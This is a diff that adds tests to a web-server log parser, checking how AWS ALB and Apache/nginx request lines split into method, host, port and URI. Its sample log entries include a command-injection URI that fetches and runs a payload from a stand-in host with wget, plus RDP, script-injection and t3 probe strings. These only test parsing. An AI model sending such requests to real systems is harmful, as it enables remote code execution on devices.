@@ -264,6 +264,61 @@ test('Apache and nginx: the size is what was sent, - is no value, the last field
   assert.equal(account.format, 'web-server');
 });
 
+test('AWS ALB: a uri may contain spaces and a host may be an IPv6 address; the reason of a classification is kept', async () => {
+  const entry = (request: string, reason: string) =>
+    `http 2024-04-25T23:10:02.186641Z app/shop/50dc 203.0.113.9:40112 - -1 -1 -1 301 - 310 5120 "${request}" "Hello, world" - - - "Root=1-66" "-" "-" 1 2024-04-25T23:10:02.150000Z "redirect" "-" "-" "-" "-" "Acceptable" "${reason}"`;
+  const { rows, account } = await read(
+    [
+      entry('GET http://198.51.100.5:80/shell?cd+/tmp;wget+ evil.example/x;sh+/tmp/x HTTP/1.1', 'SpaceInUri'),
+      entry('GET http://[2001:db8::1]:443/admin HTTP/1.1', '-'),
+      entry('- http://shop.example.com:80- - ', '-'),
+      entry('- - - ', '-'),
+    ].join('\n'),
+    'method, host, dst_port, uri, detection_types',
+  );
+  assert.deepEqual(rows, [
+    ['GET', '198.51.100.5', 80, '/shell?cd+/tmp;wget+ evil.example/x;sh+/tmp/x', 'SpaceInUri'],
+    ['GET', '[2001:db8::1]', 443, '/admin', null],
+    [null, 'shop.example.com', 80, null, null],
+    [null, null, null, null, null],
+  ]);
+  assert.deepEqual([account.records, account.rejects], [4, 0]);
+});
+
+test('Apache and nginx: what is no HTTP request is the uri as it was logged, and where none came there is none', async () => {
+  const sent: readonly (readonly [request: string, method: string | null, uri: string | null])[] = [
+    ['', null, null],
+    ['-', null, null],
+    ['- - HTTP/1.0', null, null],
+    [
+      '\\x03\\x00\\x00/*\\xE0\\x00Cookie: mstshash=Administr',
+      null,
+      '\\x03\\x00\\x00/*\\xE0\\x00Cookie: mstshash=Administr',
+    ],
+    ['MGLNDD_192.0.2.80_443', null, 'MGLNDD_192.0.2.80_443'],
+    ['<SCRIPT>x</SCRIPT> / HTTP/1.1', null, '<SCRIPT>x</SCRIPT> / HTTP/1.1'],
+    ['\\n', null, '\\n'],
+    ['t3 12.1.2\\x0AAS:255', null, 't3 12.1.2\\x0AAS:255'],
+    ['CONNECT 198.51.100.9:443 HTTP/1.1', 'CONNECT', '198.51.100.9:443'],
+    ['GET /a b?c=d e HTTP/1.1', 'GET', '/a b?c=d e'],
+    ['GET /', 'GET', '/'],
+    ['OPTIONS * HTTP/1.1', 'OPTIONS', '*'],
+    ['GET http://other.example/ HTTP/1.1', 'GET', 'http://other.example/'],
+    ['get index.html HTTP/1.1', 'get', 'index.html'],
+  ];
+  const { rows, account } = await read(
+    sent
+      .map(([request]) => `203.0.113.9 - - [25/Apr/2024:23:10:02 +0000] "${request}" 400 0 "-" "-"`)
+      .join('\n'),
+    'method, uri',
+  );
+  assert.deepEqual(
+    rows,
+    sent.map(([, method, uri]) => [method, uri]),
+  );
+  assert.deepEqual([account.records, account.rejects], [14, 0]);
+});
+
 for (const [name, format, records, expected] of [
   ['amazon_elb__raw.log', 'aws-alb', 63, { n404: 61n, sources: 1n }],
   ['aws_waf__raw.log', 'aws-waf', 38, { n404: null, sources: null }],
